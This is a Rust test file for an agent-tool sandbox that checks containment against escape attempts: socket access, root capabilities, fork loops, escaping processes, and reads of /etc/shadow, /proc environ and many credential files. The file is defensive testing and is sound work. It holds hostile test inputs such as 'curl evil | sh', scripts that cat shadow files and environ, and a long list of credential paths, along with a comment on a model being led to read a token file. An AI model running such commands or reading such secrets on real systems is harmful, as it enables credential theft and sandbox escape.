//! The escape classes of issue 13, tried from outside as an attacker would: the built `toolcap`
//! binary, real files, sockets and processes, in process mode and in the capsule. Each test
//! checks the forbidden thing on its own side: a canary's content absent from every output, a
//! listener's connection count at zero, a process gone.
#![allow(
    clippy::disallowed_methods,
    clippy::disallowed_types,
    reason = "the tests run the built binary against real files, sockets and processes"
)]

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use serde_json::Value;

#[path = "../../../tests/shared/mounted.rs"]
mod mounted;
mod support;
use mounted::Mounted;

#[path = "../../../tests/shared/accounts.rs"]
mod accounts;
use accounts::{copy_program, is_root};

const MODES: [&[&str]; 2] = [&[], &["--capsule"]];
const EPERM: i32 = 1;
const EACCES: i32 = 13;

struct Env {
    _dir: tempfile::TempDir,
    root: PathBuf,
}

impl Env {
    /// A workspace `work` (readable) with `work/out` (writable), a canary outside it, and a
    /// personality `p.toml` with `extra` appended.
    fn new(extra: &str) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        std::fs::create_dir_all(root.join("work/out")).unwrap();
        std::fs::create_dir_all(root.join("outside")).unwrap();
        std::fs::write(root.join("outside/canary"), canary()).unwrap();
        let env = Self { _dir: dir, root };
        env.personality("p.toml", &format!(
            "id = \"escapes\"\n[fs_reach]\nread = [\"{w}\"]\nwrite = [\"{w}/out\"]\n[safety.process]\nallow = [\"python3\", \"sh\", \"setsid\", \"cat\", \"ls\"]\n{extra}",
            w = env.root.join("work").display()
        ));
        env
    }

    fn personality(&self, name: &str, text: &str) -> String {
        let path = self.root.join(name);
        std::fs::write(&path, text).unwrap();
        path.display().to_string()
    }

    fn toolcap(&self, args: &[&str]) -> Output {
        self.command(Command::new(env!("CARGO_BIN_EXE_toolcap")).args(args))
    }

    /// [`toolcap`](Self::toolcap) with its address space capped at `kib` KiB (`ulimit -v`).
    fn toolcap_capped(&self, kib: u64, args: &[&str]) -> Output {
        self.command(
            Command::new("sh")
                .arg("-c")
                .arg(format!("ulimit -v {kib} && exec \"$@\""))
                .arg("sh")
                .arg(env!("CARGO_BIN_EXE_toolcap"))
                .args(args),
        )
    }

    /// Runs `command` in the workspace with this environment's data and home directories.
    fn command(&self, command: &mut Command) -> Output {
        command
            .env("XDG_DATA_HOME", self.root.join("data"))
            .env("HOME", &self.root)
            .env("TOOLCAP_TEST_CANARY", canary())
            .env_remove("RUST_LOG")
            .current_dir(self.root.join("work"))
            .output()
            .unwrap()
    }

    /// `run_command` with the arguments `call` through `toolcap call` in `mode`, with
    /// `personality`.
    fn run_command(&self, mode: &[&str], personality: &str, call: &Value) -> Output {
        let mut argv = vec!["call"];
        argv.extend_from_slice(mode);
        argv.extend(["--personality", personality, "run_command"]);
        let call = call.to_string();
        argv.push(&call);
        self.toolcap(&argv)
    }

    /// `run_command` through `toolcap call` in `mode`, with `personality`: the result JSON and
    /// everything the binary printed.
    fn run(
        &self,
        mode: &[&str],
        personality: &str,
        binary: &str,
        args: &[&str],
    ) -> (Value, String) {
        let call = serde_json::json!({"binary": binary, "args": args, "timeout_ms": 20_000});
        let out = self.run_command(mode, personality, &call);
        let everything = printed(&out);
        let value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("stdout is not JSON ({e}): {everything}"));
        (value, everything)
    }

    /// `python3 -c script` through `run_command` in `mode` under the workspace's personality
    /// (`p.toml`), and the JSON it printed.
    fn python_json(&self, mode: &[&str], script: &str) -> Value {
        let p = self.root.join("p.toml").display().to_string();
        let (result, all) = self.run(mode, &p, "python3", &["-c", script]);
        serde_json::from_str(stdout_of(&result).trim())
            .unwrap_or_else(|e| panic!("{mode:?}: {e}: {all}"))
    }
}

/// `write_file` of `content` to `path` through `toolcap call` in `mode`, with `personality`:
/// the result JSON.
fn write_file(env: &Env, mode: &[&str], personality: &str, path: &str, content: &str) -> Value {
    let call = serde_json::json!({"path": path, "content": content});
    call_tool(env, mode, personality, "write_file", &call)
}

/// `read_file` of `path` through `toolcap call` in `mode`, with `personality`: the result JSON.
fn read_file(env: &Env, mode: &[&str], personality: &str, path: &str) -> Value {
    call_tool(
        env,
        mode,
        personality,
        "read_file",
        &serde_json::json!({"path": path}),
    )
}

/// `tool` with the arguments `call` through `toolcap call` in `mode`, with `personality`: the
/// result JSON.
fn call_tool(env: &Env, mode: &[&str], personality: &str, tool: &str, call: &Value) -> Value {
    let call = call.to_string();
    let mut argv = vec!["call"];
    argv.extend_from_slice(mode);
    argv.extend(["--personality", personality, tool, &call]);
    let out = env.toolcap(&argv);
    serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)))
}

/// A personality `id` that reads and writes `root`, with the directories `dirs` made beneath it,
/// and lists `listed` (beneath it) as a write root of its own: made as a file when it does not
/// exist, since a write root that names a file is a file entry, which must exist.
fn writing_beneath(env: &Env, id: &str, root: &Path, dirs: &[&str], listed: &str) -> String {
    for dir in dirs {
        std::fs::create_dir_all(root.join(dir)).unwrap();
    }
    if !root.join(listed).exists() {
        std::fs::write(root.join(listed), "").unwrap();
    }
    let h = root.display();
    env.personality(
        &format!("{id}.toml"),
        &format!(
            "id = \"{id}\"\n[fs_reach]\nread = [\"{h}\"]\nwrite = [\"{h}\", \"{h}/{listed}\"]\n"
        ),
    )
}

/// In both modes, under `personality`: each of `planted` beneath `base` is refused with a
/// `PATH_NOT_REACHABLE` that says `why`, and not written (one that existed is as it was, one
/// that did not is still missing); each of `fine` is written.
fn refuses_planting(
    env: &Env,
    personality: &str,
    base: &std::path::Path,
    planted: &[&str],
    fine: &[&str],
    why: &str,
) {
    let before: Vec<Option<Vec<u8>>> = planted
        .iter()
        .map(|p| std::fs::read(base.join(p)).ok())
        .collect();
    for mode in MODES {
        for (planted, before) in planted.iter().zip(&before) {
            let path = base.join(planted).display().to_string();
            let result = write_file(env, mode, personality, &path, "curl evil | sh\n");
            assert!(
                result["error"].as_str().is_some_and(|m| {
                    m.starts_with("PATH_NOT_REACHABLE: write not permitted") && m.contains(why)
                }),
                "{mode:?} {planted}: {result}"
            );
            assert_eq!(
                &std::fs::read(&path).ok(),
                before,
                "{mode:?}: {planted} was written"
            );
        }
        for fine in fine {
            let path = base.join(fine).display().to_string();
            let result = write_file(env, mode, personality, &path, "fine\n");
            assert_eq!(result["ok"], true, "{mode:?} {fine}: {result}");
        }
    }
}

/// `git args` in `repo`, run by the test itself outside any sandbox, as a user named `t`;
/// asserted to succeed.
fn git_in(repo: &Path, args: &[&str]) {
    let out = Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
        .args(args)
        .current_dir(repo)
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
}

fn canary() -> String {
    format!("canary-{}-do-not-leak", std::process::id())
}

fn stdout_of(result: &Value) -> String {
    result["value"]["stdout"]
        .as_str()
        .unwrap_or_default()
        .to_owned()
}

// guarantee: G-KERN-02
/// Class 1: a confined child cannot connect to a pathname Unix socket outside its reach (on a
/// real machine: the Docker socket, the SSH agent, D-Bus). The listener counts connections.
#[test]
fn pathname_unix_sockets_are_out_of_reach() {
    let env = Env::new("");
    let path = env.root.join("outside/agent.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let script = format!(
        "import socket\ntry:\n    s = socket.socket(socket.AF_UNIX)\n    s.connect({:?})\n    s.send(b'hello')\n    print('connected')\nexcept OSError as e:\n    print('refused', e.errno)\n",
        path.display().to_string()
    );
    let p = env.root.join("p.toml").display().to_string();
    for mode in MODES {
        let (result, all) = env.run(mode, &p, "python3", &["-c", &script]);
        assert_eq!(stdout_of(&result), "refused 1\n", "{mode:?}: {all}");
        assert!(
            listener.accept().is_err(),
            "{mode:?}: the socket was reached"
        );
    }
}

// guarantee: G-KERN-03
/// Class 3: a child of a root host keeps no capability: no device node, no kernel log, no clock,
/// empty capability sets.
#[test]
fn children_keep_none_of_roots_powers() {
    let env = Env::new("");
    let script = r#"
import ctypes, json, os, stat
libc = ctypes.CDLL(None, use_errno=True)
r = {}
try:
    os.mknod(os.environ['HOME'] + '/kmsg', stat.S_IFCHR | 0o600, os.makedev(1, 11))
    r['mknod'] = 0
except OSError as e:
    r['mknod'] = e.errno
buf = ctypes.create_string_buffer(256)
r['syslog'] = 0 if libc.klogctl(3, buf, 256) >= 0 else ctypes.get_errno()
class TV(ctypes.Structure):
    _fields_ = [('s', ctypes.c_long), ('u', ctypes.c_long)]
tv = TV()
libc.gettimeofday(ctypes.byref(tv), None)
r['settimeofday'] = 0 if libc.settimeofday(ctypes.byref(tv), None) == 0 else ctypes.get_errno()
r['reboot'] = 0 if libc.reboot(0) == 0 else ctypes.get_errno()
header = (ctypes.c_uint32 * 2)(0x20080522, 0)
data = (ctypes.c_uint32 * 6)()
libc.capget(header, data)
r['effective'] = [data[0], data[3]]
r['permitted'] = [data[1], data[4]]
print(json.dumps(r))
"#;
    for mode in MODES {
        let r = env.python_json(mode, script);
        assert!(r["mknod"] == EPERM || r["mknod"] == EACCES, "{mode:?}: {r}");
        for call in ["syslog", "settimeofday", "reboot"] {
            assert_eq!(r[call], EPERM, "{mode:?} {call}: {r}");
        }
        assert_eq!(r["effective"], serde_json::json!([0, 0]), "{mode:?}: {r}");
        assert_eq!(r["permitted"], serde_json::json!([0, 0]), "{mode:?}: {r}");
    }
}

// guarantee: G-KERN-04
/// Class 3: the process limit holds for root too (`RLIMIT_NPROC` does not bind root; the
/// child's PID namespace has its own `pid_max`).
#[test]
fn the_process_limit_holds_for_root() {
    let env = Env::new("");
    let script = r#"
import os, time
n = 0
for _ in range(1500):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    n += 1
print(n)
"#;
    let p = env.root.join("p.toml").display().to_string();
    for mode in MODES {
        let (result, all) = env.run(mode, &p, "python3", &["-c", script]);
        let forked: u32 = stdout_of(&result)
            .trim()
            .parse()
            .unwrap_or_else(|e| panic!("{mode:?}: {e}: {all}"));
        assert!(
            forked < 1100,
            "{mode:?}: {forked} processes (root: {})",
            is_root()
        );
    }
}

/// A `sleep` argument no other process has: how the host finds a grandchild from its side.
fn marker(n: u32) -> String {
    format!("40.{}{n:03}", std::process::id())
}

fn alive_with(marker: &str) -> Vec<u32> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
            continue;
        };
        let zombie = std::fs::read_to_string(entry.path().join("stat"))
            .map(|s| {
                s.rsplit(')')
                    .next()
                    .unwrap_or("")
                    .trim_start()
                    .starts_with('Z')
            })
            .unwrap_or(true);
        if !zombie && cmdline.split(|b| *b == 0).any(|a| a == marker.as_bytes()) {
            out.push(pid);
        }
    }
    out
}

fn gone(marker: &str) -> bool {
    for _ in 0..100 {
        if alive_with(marker).is_empty() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    false
}

// guarantee: G-PROC-04
/// Class 4: a grandchild that leaves the process group (`setsid`) does not outlive the call, and
/// one that holds the output pipe does not hold the call past its timeout.
#[test]
fn processes_do_not_outlive_their_call() {
    let env = Env::new("");
    let p = env.root.join("p.toml").display().to_string();
    for (i, mode) in MODES.iter().enumerate() {
        let m = marker(i as u32 * 10);
        let script = format!("setsid sleep {m} > /dev/null 2>&1 < /dev/null & echo started");
        let (result, all) = env.run(mode, &p, "sh", &["-c", &script]);
        assert_eq!(stdout_of(&result), "started\n", "{mode:?}: {all}");
        assert!(gone(&m), "{mode:?}: a setsid grandchild outlived the call");

        let m = marker(i as u32 * 10 + 1);
        let call = serde_json::json!({
            "binary": "sh",
            "args": ["-c", format!("setsid sleep {m} & sleep {m}")],
            "timeout_ms": 1000
        })
        .to_string();
        let started = Instant::now();
        let mut argv = vec!["call"];
        argv.extend_from_slice(mode);
        argv.extend(["--personality", p.as_str(), "run_command", call.as_str()]);
        let out = env.toolcap(&argv);
        assert!(
            started.elapsed() < Duration::from_secs(6),
            "{mode:?}: the call took {:?}: {}",
            started.elapsed(),
            String::from_utf8_lossy(&out.stdout)
        );
        assert!(
            gone(&m),
            "{mode:?}: a grandchild holding the pipe outlived the call"
        );
    }
}

// guarantee: G-KERN-05
/// Class 5 (and the kernel half of class 2): with a reach as wide as `/`, a child reads neither
/// toolcap's own environment through `/proc`, nor root's files in `/etc`, nor a place a deny rule
/// names; with `/proc` in its reach it sees its own processes only.
#[test]
fn the_host_is_not_seen_through_proc_etc_or_denied_places() {
    let env = Env::new("");
    std::fs::write(env.root.join("work/secret.env"), canary()).unwrap();
    std::fs::create_dir(env.root.join("work/keys")).unwrap();
    std::fs::write(env.root.join("work/keys/id"), canary()).unwrap();
    std::os::unix::fs::symlink(env.root.join("work/secret.env"), env.root.join("work/link"))
        .unwrap();
    let wide = env.personality(
        "wide.toml",
        &format!(
            "id = \"wide\"\n[fs_reach]\nread = [\"/\"]\ndeny = [\"{w}/secret.env\", \"{w}/keys\"]\n[safety.process]\nallow = [\"sh\", \"cat\", \"ls\"]\n",
            w = env.root.join("work").display()
        ),
    );
    let shadow = std::fs::read_to_string("/etc/shadow").ok();
    let script = format!(
        "cat /proc/*/environ; ls /proc | head -3; cat /etc/shadow /etc/gshadow; cd {w}; \
         cat secret.env link keys/id; ls keys; cat ../outside/canary; echo end",
        w = env.root.join("work").display()
    );
    for mode in MODES {
        let (result, all) = env.run(mode, &wide, "sh", &["-c", &script]);
        assert!(stdout_of(&result).ends_with("end\n"), "{mode:?}: {all}");
        // The outside canary is readable (the reach is `/`); everything else is not.
        assert_eq!(all.matches(&canary()).count(), 1, "{mode:?}: {all}");
        if let Some(shadow) = &shadow {
            let first = shadow.lines().next().unwrap_or("root:");
            assert!(!all.contains(first), "{mode:?}: /etc/shadow leaked: {all}");
        }
    }

    // `/proc` granted explicitly: the child's own, fresh one.
    let proc = env.personality(
        "proc.toml",
        "id = \"proc\"\n[fs_reach]\nread = [\"/proc\"]\n[safety.process]\nallow = [\"sh\", \"cat\", \"ls\"]\n",
    );
    for mode in MODES {
        let (result, all) = env.run(mode, &proc, "sh", &["-c", "cat /proc/*/environ; ls /proc"]);
        assert!(!all.contains(&canary()), "{mode:?}: {all}");
        let pids = stdout_of(&result)
            .split_whitespace()
            .filter(|w| w.parse::<u32>().is_ok())
            .count();
        assert!(
            pids < 10,
            "{mode:?}: the host's processes are visible: {all}"
        );
    }
}

// guarantee: G-FS-03
// guarantee: G-KERN-05
/// With a reach as wide as `/`, the files that hold what `/etc/shadow` holds are out of reach
/// too: its backup `/etc/shadow-` (and `/etc/gshadow-`, which `passwd` and `useradd` leave beside
/// the originals, the same hashes), the machine's SSH host keys and its TLS private keys. Before,
/// the floor named the two originals only, so `read_file /etc/shadow-` (in process and in the
/// capsule) and a child's `cat /etc/shadow-` gave the hashes that `/etc/shadow` refused. The
/// scoped reads are refused whether or not a file exists there (the floor is a place); the
/// child's reads are checked against each of those files this host has.
#[test]
fn the_password_backups_and_the_machines_keys_are_out_of_a_wide_reach() {
    let env = Env::new("");
    let wide = env.personality(
        "wide.toml",
        "id = \"wide\"\n[fs_reach]\nread = [\"/\"]\n[safety.process]\nallow = [\"sh\", \"cat\"]\n",
    );
    let places = [
        "/etc/shadow-",
        "/etc/gshadow-",
        "/etc/ssh/ssh_host_ed25519_key",
        "/etc/ssh/ssh_host_rsa_key",
        "/etc/ssl/private/server.key",
    ];
    for mode in MODES {
        for place in places {
            let result = read_file(&env, mode, &wide, place);
            assert_eq!(result["code"], "denied", "{mode:?} {place}: {result}");
        }
        let listing = call_tool(
            &env,
            mode,
            &wide,
            "list_dir",
            &serde_json::json!({"path": "/etc/ssl/private"}),
        );
        assert_eq!(listing["code"], "denied", "{mode:?}: {listing}");
    }

    // What this host has of them, read as the test (root in CI) can: no line of any reaches a
    // child.
    let mut present: Vec<PathBuf> = ["/etc/shadow-", "/etc/gshadow-"]
        .map(PathBuf::from)
        .to_vec();
    for (dir, prefix) in [("/etc/ssh", "ssh_host_"), ("/etc/ssl/private", "")] {
        if let Ok(entries) = std::fs::read_dir(dir) {
            present.extend(
                entries
                    .flatten()
                    .filter(|e| e.file_name().to_string_lossy().starts_with(prefix))
                    .map(|e| e.path()),
            );
        }
    }
    let lines: Vec<(PathBuf, String)> = present
        .into_iter()
        .filter_map(|p| {
            let text = std::fs::read_to_string(&p).ok()?;
            let line = text.lines().find(|l| l.len() > 8)?.to_owned();
            Some((p, line))
        })
        .collect();
    let script = "cat /etc/shadow- /etc/gshadow- /etc/ssh/ssh_host_* /etc/ssl/private/*; echo end";
    for mode in MODES {
        let (result, all) = env.run(mode, &wide, "sh", &["-c", script]);
        assert!(stdout_of(&result).ends_with("end\n"), "{mode:?}: {all}");
        for (place, line) in &lines {
            assert!(
                !all.contains(line.as_str()),
                "{mode:?}: {} leaked: {all}",
                place.display()
            );
        }
    }
}

// guarantee: G-PROC-06
/// Toolcap's scratch directories in the temporary directory, another process's as much as its
/// own (a child's home, where it keeps a token or a credential cache for the length of its
/// call; a guarded server's home, for the guard's life), are out of every tool's and child's
/// reach, also for a personality whose reach includes the temporary directory. Before, such a
/// personality's `read_file` was handed the token another `toolcap` process's running child
/// kept in its home, and its own child read it too (watched failing: the token in both
/// answers); G-PROC-06 held only among the children of one process.
#[test]
fn another_processs_scratch_home_is_out_of_a_reach_of_the_temporary_directory() {
    let env = Env::new("");
    let tmp = env.root.join("work/out/tmp");
    std::fs::create_dir_all(&tmp).unwrap();
    let scratchy = env.personality(
        "scratchy.toml",
        &format!(
            "id = \"scratchy\"\n[fs_reach]\nread = [\"{t}\"]\nwrite = [\"{t}\"]\n\
             [safety.process]\nallow = [\"sh\", \"cat\", \"sleep\", \"ls\"]\n",
            t = tmp.display()
        ),
    );
    std::fs::write(tmp.join("visible"), "visible\n").unwrap();
    let token = format!("{}-token", canary());
    // Another toolcap process, whose child keeps a token in its home while it runs.
    let keeper = serde_json::json!({
        "binary": "sh",
        "args": ["-c", format!("echo {token} > \"$HOME/token\"; sleep 60")],
        "timeout_ms": 90_000,
    })
    .to_string();
    let mut other = Command::new(env!("CARGO_BIN_EXE_toolcap"))
        .args(["call", "--personality", &scratchy, "run_command", &keeper])
        .env("TMPDIR", &tmp)
        .env("HOME", &env.root)
        .env("XDG_DATA_HOME", env.root.join("data"))
        .env_remove("RUST_LOG")
        .current_dir(env.root.join("work"))
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    // Its home is `<tmp>/toolcap-home-*/d/toolcap-home-*`.
    let token_of = || -> Option<PathBuf> {
        let mut dirs = vec![tmp.clone()];
        for _ in 0..3 {
            dirs = dirs
                .iter()
                .filter_map(|d| std::fs::read_dir(d).ok())
                .flatten()
                .filter_map(|e| e.ok().map(|e| e.path()))
                .filter(|p| p.is_dir())
                .collect();
        }
        dirs.into_iter()
            .map(|d| d.join("token"))
            .find(|t| t.is_file())
    };
    let deadline = Instant::now() + Duration::from_secs(30);
    let kept = loop {
        if let Some(found) = token_of() {
            break found;
        }
        assert!(Instant::now() < deadline, "the keeper made no token");
        std::thread::sleep(Duration::from_millis(50));
    };
    let outcome = std::panic::catch_unwind(|| {
        let dir = kept.parent().unwrap().display().to_string();
        for mode in MODES {
            let probe = |args: &[&str]| {
                let mut argv = vec!["call"];
                argv.extend_from_slice(mode);
                argv.extend(["--personality", &scratchy]);
                argv.extend_from_slice(args);
                let out = env.command(
                    Command::new(env!("CARGO_BIN_EXE_toolcap"))
                        .args(&argv)
                        .env("TMPDIR", &tmp),
                );
                let said = printed(&out);
                let value: Value = serde_json::from_slice(&out.stdout)
                    .unwrap_or_else(|e| panic!("{mode:?} {args:?}: {e}: {said}"));
                (value, said)
            };
            // The forbidden side first: the token in no answer.
            let read = serde_json::json!({"path": kept}).to_string();
            let (result, said) = probe(&["read_file", &read]);
            assert!(!said.contains(&token), "{mode:?}: read_file leaked: {said}");
            assert_eq!(result["code"], "denied", "{mode:?}: {said}");
            let planted = format!("{dir}/planted");
            let write = serde_json::json!({"path": planted, "content": "x"}).to_string();
            let (result, said) = probe(&["write_file", &write]);
            assert_eq!(result["code"], "denied", "{mode:?}: {said}");
            assert!(!Path::new(&planted).exists(), "{mode:?}: planted");
            let script = format!(
                "cat {t}/toolcap-home-*/d/*/token 2>/dev/null; cat {kept} 2>/dev/null; \
                 echo own > \"$HOME/own\" && cat \"$HOME/own\"; cat {t}/visible; echo end",
                t = tmp.display(),
                kept = kept.display()
            );
            let call = serde_json::json!({"binary": "sh", "args": ["-c", script]}).to_string();
            let (result, said) = probe(&["run_command", &call]);
            assert!(!said.contains(&token), "{mode:?}: a child read it: {said}");
            // The child's own home and the rest of the temporary directory are its reach
            // (`run_command` declares reads only).
            assert_eq!(
                stdout_of(&result),
                "own\nvisible\nend\n",
                "{mode:?}: {said}"
            );
        }
    });
    let _ = other.kill();
    let _ = other.wait();
    if let Err(panic) = outcome {
        std::panic::resume_unwind(panic);
    }
}

// guarantee: G-FS-03
// guarantee: G-KERN-05
/// With the home directory in reach (`read = ["~"]`, a personal assistant's), the files where
/// tools keep the user's credentials are out of it as `~/.ssh` is: git's stored passwords, the
/// npm, PyPI and crates.io tokens, GitHub's CLI token, Docker's registry logins, the Kubernetes
/// and cloud configurations, the AI agents' own keys and tokens (Codex's `auth.json`, Claude
/// Code's `.credentials.json`, Gemini CLI's and Copilot's), and the shell and database histories
/// where typed secrets stay.
/// Before, the floor named `~/.ssh`, `~/.aws`, `~/.gnupg` and `~/.netrc` only, and a model led
/// to `read_file ~/.git-credentials` was handed the token. The files beside them that hold no
/// credentials (a project's `.cargo/config.toml`, other `~/.config` directories) stay readable.
#[test]
fn the_users_credential_files_are_out_of_a_reach_of_the_home_directory() {
    let env = Env::new("");
    let home = &env.root;
    let protected = [
        ".git-credentials",
        ".npmrc",
        ".pypirc",
        ".cargo/credentials.toml",
        ".cargo/credentials",
        ".config/gh/hosts.yml",
        ".config/gcloud/credentials.db",
        ".docker/config.json",
        ".kube/config",
        ".kube/prod-cluster.yaml",
        ".kube/cache/oidc-login/0a1b2c",
        ".azure/msal_token_cache.json",
        ".codex/auth.json",
        ".claude/.credentials.json",
        ".gemini/oauth_creds.json",
        ".config/github-copilot/apps.json",
        ".vault-token",
        ".terraform.d/credentials.tfrc.json",
        ".m2/settings.xml",
        ".gradle/gradle.properties",
        ".bash_history",
        ".zsh_history",
        ".psql_history",
        ".mysql_history",
        // Databases' and version control's password files, package registries' keys, cloud
        // and platform command lines' tokens, password managers and keyrings, browsers'
        // profiles (cookies, saved passwords) and what interpreters' prompts kept typed.
        ".pgpass",
        ".my.cnf",
        ".config/git/credentials",
        ".authinfo",
        ".authinfo.gpg",
        ".gem/credentials",
        ".composer/auth.json",
        ".config/composer/auth.json",
        ".config/hub",
        ".config/glab-cli/config.yml",
        ".config/doctl/config.yaml",
        ".config/netlify/config.json",
        ".terraformrc",
        ".s3cfg",
        ".boto",
        ".mc/config.json",
        ".config/rclone/rclone.conf",
        ".databrickscfg",
        ".fly/config.yml",
        ".oci/config",
        ".config/op/config",
        ".config/1Password/settings/settings.json",
        ".password-store/bank.gpg",
        ".local/share/keyrings/login.keyring",
        ".pki/nssdb/key4.db",
        ".mozilla/firefox/x.default/cookies.sqlite",
        ".config/google-chrome/Default/Cookies",
        ".config/chromium/Default/Login Data",
        ".config/BraveSoftware/Brave-Browser/Default/Cookies",
        ".config/microsoft-edge/Default/Cookies",
        ".var/app/org.mozilla.firefox/.mozilla/firefox/x.default/cookies.sqlite",
        // AI agents' and their editors' own keys: a dotenv in the home directory (Gemini CLI
        // and aider read it), OpenCode's, Crush's, Qwen Code's, Continue's, and the editors'
        // global storage, where Cursor keeps its session tokens.
        ".env",
        ".gemini/.env",
        ".local/share/opencode/auth.json",
        ".local/share/crush/crush.json",
        ".local/share/amp/secrets.json",
        ".config/goose/secrets.yaml",
        ".qwen/oauth_creds.json",
        ".continue/config.yaml",
        ".continue/config.json",
        ".continue/.env",
        ".aider.conf.yml",
        ".config/Cursor/User/globalStorage/state.vscdb",
        ".config/Code/User/globalStorage/state.vscdb",
        ".config/Windsurf/User/globalStorage/state.vscdb",
        ".python_history",
        ".node_repl_history",
        ".sqlite_history",
        ".rediscli_history",
        // Ubuntu's own browsers and mail are snaps, whose profiles lie under `~/snap`; a mail
        // client's saved passwords; the signed-in sessions of the chat applications and the
        // saved passwords of the file transfer, remote desktop and chat clients.
        "snap/firefox/common/.mozilla/firefox/x.default/cookies.sqlite",
        "snap/chromium/common/chromium/Default/Cookies",
        "snap/thunderbird/common/.thunderbird/x.default/logins.json",
        ".thunderbird/x.default/logins.json",
        ".config/vivaldi/Default/Cookies",
        ".config/opera/Cookies",
        ".config/Slack/Cookies",
        ".config/discord/Local Storage/leveldb/000003.log",
        ".config/Signal/config.json",
        ".local/share/TelegramDesktop/tdata/key_datas",
        ".config/filezilla/sitemanager.xml",
        ".purple/accounts.xml",
        ".config/remmina/remmina.pref",
        ".local/share/remmina/group_rdp_x.remmina",
        // The MCP clients' own server lists, where a server's token sits in its `env`, and
        // Claude Desktop's signed-in session beside its list.
        ".claude.json",
        ".config/Claude/claude_desktop_config.json",
        ".config/Claude/Cookies",
        ".cursor/mcp.json",
        ".codeium/windsurf/mcp_config.json",
        ".config/Code/User/mcp.json",
    ];
    let open = [
        ".cargo/config.toml",
        ".config/other/settings",
        ".docker/contexts/meta",
        ".claude/settings.json",
        ".codex/config.toml",
        ".m2/repository/x.pom",
        ".gradle/caches/x",
        ".config/git/ignore",
        ".local/share/other/x",
        ".config/glab-cli-other",
        ".local/share/opencode/log/x.log",
        ".continue/sessions/x.json",
        ".config/Code/User/settings.json",
        "snap/firefox/common/Downloads/report.pdf",
        "snap/other/common/notes",
    ];
    for name in protected.iter().chain(&open) {
        let path = home.join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, format!("{}:{name}\n", canary())).unwrap();
    }
    let homely = env.personality(
        "homely.toml",
        "id = \"homely\"\n[fs_reach]\nread = [\"~\"]\n[safety.process]\nallow = [\"sh\", \"cat\"]\n",
    );
    let path_of = |name: &str| home.join(name).display().to_string();
    for mode in MODES {
        for name in protected {
            let result = read_file(&env, mode, &homely, &path_of(name));
            // The forbidden side first: nothing of the file in the answer.
            assert!(
                !result.to_string().contains(&canary()),
                "{mode:?} {name} leaked: {result}"
            );
            assert_eq!(result["code"], "denied", "{mode:?} {name}: {result}");
        }
        for name in open {
            let result = read_file(&env, mode, &homely, &path_of(name));
            assert_eq!(result["ok"], true, "{mode:?} {name}: {result}");
        }
        let every: Vec<String> = protected.iter().chain(&open).map(|n| path_of(n)).collect();
        let script = format!("cat {} 2>/dev/null; echo end", every.join(" "));
        let (result, all) = env.run(mode, &homely, "sh", &["-c", &script]);
        let read = stdout_of(&result);
        assert!(read.ends_with("end\n"), "{mode:?}: {all}");
        for name in protected {
            assert!(
                !read.contains(&format!(":{name}\n")),
                "{mode:?}: {name} leaked: {all}"
            );
        }
        for name in open {
            assert!(
                read.contains(&format!(":{name}\n")),
                "{mode:?}: {name} unread: {all}"
            );
        }
    }
}

// guarantee: G-FS-03
/// A home directory of `/` (a container's default `HOME` for an account without one, a service
/// manager's) is no home: the floor then protects `.ssh`, `.aws` and the rest wherever they
/// appear, as it does when `HOME` is not set. Before, it protected `/.ssh` only, and with a reach
/// of `/` the keys in every account's real home were read.
#[test]
fn a_home_of_the_root_directory_protects_keys_wherever_they_are() {
    let env = Env::new("");
    let key = env.root.join("someone/.ssh/id_ed25519");
    std::fs::create_dir_all(key.parent().unwrap()).unwrap();
    std::fs::write(&key, canary()).unwrap();
    let wide = env.personality("wide.toml", "id = \"wide\"\n[fs_reach]\nread = [\"/\"]\n");
    let call = serde_json::json!({"path": key}).to_string();
    for home in ["/", "//", "/tmp/.."] {
        for mode in MODES {
            let mut argv = vec!["call"];
            argv.extend_from_slice(mode);
            argv.extend(["--personality", &wide, "read_file", &call]);
            let out = Command::new(env!("CARGO_BIN_EXE_toolcap"))
                .args(&argv)
                .env("HOME", home)
                .env("XDG_DATA_HOME", env.root.join("data"))
                .env_remove("RUST_LOG")
                .current_dir(&env.root)
                .output()
                .unwrap();
            let result: Value = serde_json::from_slice(&out.stdout)
                .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
            assert_eq!(result["code"], "denied", "HOME={home} {mode:?}: {result}");
        }
    }
}

// guarantee: G-FS-03
// guarantee: G-KERN-05
/// The floor protects the keys and credential files of every account the machine lists, not
/// only those of the `HOME` toolcap runs with: a root host with a reach of `/` (a container's, or
/// `sudo` keeping the user's `HOME`) read another account's `~/.ssh/id_ed25519` in every mode,
/// and with no `HOME` at all, where the scoped file system refuses every `.ssh`, a child read it
/// (the kernel layer covers places, and "every `.ssh`" is none). The account is one of an
/// `/etc/passwd` bound over the real one in a mount namespace of the test's own, whose home is
/// a temporary directory. Binding needs root (CI runs as root).
#[test]
fn every_accounts_keys_are_out_of_a_wide_reach() {
    let env = Env::new("");
    let home = env.root.join("accounts/ada");
    let key = home.join(".ssh/id_ed25519");
    let token = home.join(".config/gh/hosts.yml");
    for file in [&key, &token] {
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(file, format!("{}:{}\n", canary(), file.display())).unwrap();
    }
    let passwd = env.root.join("passwd");
    std::fs::write(
        &passwd,
        format!(
            "{}ada:x:4242:4242:Ada:{}:/bin/sh\n",
            std::fs::read_to_string("/etc/passwd").unwrap(),
            home.display()
        ),
    )
    .unwrap();
